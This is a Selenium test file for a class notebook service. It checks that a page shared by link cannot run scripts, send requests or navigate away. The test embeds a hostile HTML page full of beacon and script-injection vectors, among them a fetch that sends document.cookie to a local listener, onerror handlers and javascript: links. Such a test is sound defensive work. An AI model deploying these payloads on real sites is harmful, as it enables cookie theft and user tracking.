"""A hostile page that somebody shares by a link, in a real browser."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import requests
from browser import PAGE_LIMIT_S, picture
from lesson import TEACHER, Lesson
from pages import find, open_as, session, text, wait_for
from selenium.webdriver import Chrome
from selenium.webdriver.common.by import By
from standalone import Standalone

MAKER, READER = "ada", "bob"
TIMEOUT_S = 30

# Each part asks the listener for an address of its own, leads away, or changes the title, if it works.
HOSTILE = """<!doctype html><html><head><meta charset="utf-8"><title>shared</title>
<meta http-equiv="refresh" content="0; url={there}/refresh">
<link rel="stylesheet" href="{there}/stylesheet"><link rel="prefetch" href="{there}/prefetch">
<link rel="preconnect" href="{there}"><link rel="icon" href="{there}/icon">
<base href="{there}/base/">
<style>
@import url("{there}/import");
@font-face {{ font-family: theirs; src: url("{there}/font"); }}
body {{ background: url("{there}/background"); font-family: theirs; }}
p::before {{ content: url("{there}/content"); }}
</style>
<script>top.document.title = "hit"; fetch("{there}/fetch?" + document.cookie);</script>
<script src="{there}/script"></script></head>
<body onload="fetch('{there}/onload')">
<p id="cells">In [1]: 6 * 7</p>
<img src="{there}/image" onerror="document.title = 'hit'"><img src="relative" onerror="top.location = '{there}/onerror'">
<img srcset="{there}/srcset 1x"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" id="embedded">
<svg xmlns="http://www.w3.org/2000/svg" onload="document.title = 'hit'">
<script>fetch("{there}/svg-script")</script><image href="{there}/svg-image"/><use href="{there}/svg-use#x"/></svg>
<object data="{there}/object"></object><embed src="{there}/embed">
<iframe src="javascript:top.document.title = 'hit'"></iframe><iframe src="{there}/frame"></iframe>
<iframe srcdoc="&lt;script&gt;fetch('{there}/srcdoc')&lt;/script&gt;&lt;img src='{there}/srcdoc-image'&gt;"></iframe>
<video src="{there}/video" poster="{there}/poster" autoplay></video><audio src="{there}/audio" autoplay></audio>
<form action="{there}/form" method="post"><button id="send">send</button></form>
<form action="{service}/logout" method="post"><button id="logout" formaction="{there}/formaction">out</button></form>
<a id="away" href="{there}/away">away</a> <a id="top" target="_top" href="{there}/top">top</a>
<a id="popup" target="_blank" href="{there}/popup">popup</a>
<a id="script" href="javascript:fetch('{there}/javascript')">script</a>
</body></html>"""


class Listener:
    """A server elsewhere, which notes each request that it gets."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(f"{self.command} {self.path} {self.headers.get('Cookie')}")
                self.send_response(200)
                self.end_headers()

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def asked_by_the_page(self) -> list[str]:
        """Returns the requests, without those of the test and for the icon of the page that the test opened here."""
        own = ("/between", "/favicon.ico")
        return [asked for asked in self.asked if asked.split()[1] not in own]

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    running = Listener()
    yield running
    running.stop()


def into_frame(browser: Chrome) -> None:
    browser.switch_to.frame(find(browser, By.CSS_SELECTOR, "iframe.shared"))


def test_a_shared_page_runs_nothing_sends_nothing_and_leads_nowhere(
    server: Standalone,
    lesson: Lesson,
    browser: Chrome,
    screenshots: Path,
    listener: Listener,
) -> None:
    # The browser reaches the listener, so that its silence later means something.
    browser.get(f"{listener.url}/control")
    assert any("/control" in asked for asked in listener.asked)
    listener.asked.clear()
    page = HOSTILE.format(there=listener.url, service=server.url)
    link = lesson.share_page(MAKER, page, "plot")
    open_as(browser, server, READER, link)
    address = browser.current_url
    assert "ada shared this page" in text(browser)
    into_frame(browser)
    assert "6 * 7" in find(browser, By.ID, "cells").text
    width = "return document.getElementById('embedded').naturalWidth"
    wait_for(browser, lambda page: page.execute_script(width) == 1)
    for name in ("send", "logout", "top", "popup", "script"):
        find(browser, By.ID, name).click()
    # A whole page in between gives what was begun the time to happen.
    browser.switch_to.default_content()
    picture(browser, screenshots / "pages", "shared page")
    assert requests.get(f"{listener.url}/between", timeout=TIMEOUT_S).ok
    assert browser.current_url == address
    assert browser.title.startswith("plot")
    assert len(browser.window_handles) == 1
    into_frame(browser)
    assert "6 * 7" in find(browser, By.ID, "cells").text
    # A click on a link leads the frame nowhere else.
    find(browser, By.ID, "away").click()
    browser.switch_to.default_content()
    assert browser.current_url == address
    open_as(browser, server, READER, "me")
    assert listener.asked_by_the_page() == []
    assert READER in text(browser)

    # Opened by itself, the page can do as little.
    open_as(browser, server, READER, link)
    alone = find(browser, By.CSS_SELECTOR, "iframe.shared").get_attribute("src")
    browser.get(alone)
    assert "6 * 7" in find(browser, By.ID, "cells").text
    for name in ("send", "logout", "script"):
        find(browser, By.ID, name).click()
    assert requests.get(f"{listener.url}/between", timeout=TIMEOUT_S).ok
    assert browser.current_url == alone
    assert browser.title == "shared"
    assert listener.asked_by_the_page() == []


def test_a_link_is_revoked_on_the_page_without_scripts(
    server: Standalone, lesson: Lesson, browser: Chrome, screenshots: Path
) -> None:
    link = lesson.share_page(MAKER, "<p>42", "To be revoked")
    disabled = "Emulation.setScriptExecutionDisabled"
    browser.execute_cdp_cmd(disabled, {"value": True})
    try:
        open_as(browser, server, MAKER, "me")
        find(browser, By.LINK_TEXT, "My shared pages").click()
        find(browser, By.LINK_TEXT, "To be revoked")
        picture(browser, screenshots / "pages", "shared pages")
        button = "button[aria-label='Revoke the link to To be revoked']"
        find(browser, By.CSS_SELECTOR, button).click()
        wait_for(browser, lambda page: "The link was revoked." in text(page), PAGE_LIMIT_S)
        open_as(browser, server, READER, link)
        wait_for(browser, lambda page: "The link was revoked." in text(page), PAGE_LIMIT_S)
    finally:
        browser.execute_cdp_cmd(disabled, {"value": False})


@pytest.mark.parametrize(("language", "words"), [("en", "Shared pages"), ("de", "Geteilte Seiten"), ("fr", "Pages partagées")])
def test_those_who_teach_see_the_list_in_their_language(
    server: Standalone, lesson: Lesson, language: str, words: str
) -> None:
    lesson.share_page(MAKER, "<p>42", "plot")
    page = session(TEACHER, language).get(f"{server.url}/c/algebra/shares", timeout=TIMEOUT_S)
    assert page.ok and words in page.text and MAKER in page.text
